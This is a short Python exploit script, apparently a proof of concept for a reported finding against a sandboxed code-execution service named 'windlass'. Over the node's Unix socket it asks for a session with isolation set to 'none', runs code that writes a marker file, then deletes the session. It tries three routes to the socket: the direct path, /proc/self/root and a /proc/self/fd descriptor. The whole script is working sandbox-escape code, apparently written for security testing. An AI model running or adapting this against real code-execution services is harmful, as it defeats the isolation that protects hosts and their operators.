# name: connect to the node and have it make a session without a sandbox
# line: 67
# finding: 3
import json
import os
import socket

from attack import STAGE, try_each

MARKER = f"{STAGE['home']}/ran-without-a-sandbox"


def asked(path, method, target, body):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(8)
        one.connect(path)
        text = json.dumps(body)
        one.sendall(f"{method} {target} HTTP/1.1\r\nhost: windlass\r\nwindlass-api: 1.0\r\nconnection: close\r\n"
                    f"content-type: application/json\r\ncontent-length: {len(text)}\r\n\r\n{text}".encode())
        answer = b""
        while part := one.recv(65536):
            answer += part
        return json.loads(answer.split(b"\r\n\r\n", 1)[1])


def made(path):
    create = {"policy": {"isolation": "none"}, "interpreter": "/usr/bin/python3"}
    session = asked(path, "POST", "/v1/sessions", create)["session"]["id"]
    code = f"open({MARKER!r}, 'w').write('x')"
    asked(path, "POST", f"/v1/sessions/{session}/turns?wait_ms=5000", {"code": code})
    asked(path, "DELETE", f"/v1/sessions/{session}", {})
    return f"session {session}"


def by_descriptor():
    descriptor = os.open(STAGE["node_socket"], os.O_PATH)
    return made(f"/proc/self/fd/{descriptor}")


try_each([("its socket", lambda: made(STAGE["node_socket"])),
          ("by /proc/self/root", lambda: made(f"/proc/self/root{STAGE['node_socket']}")),
          ("by a descriptor", by_descriptor)])
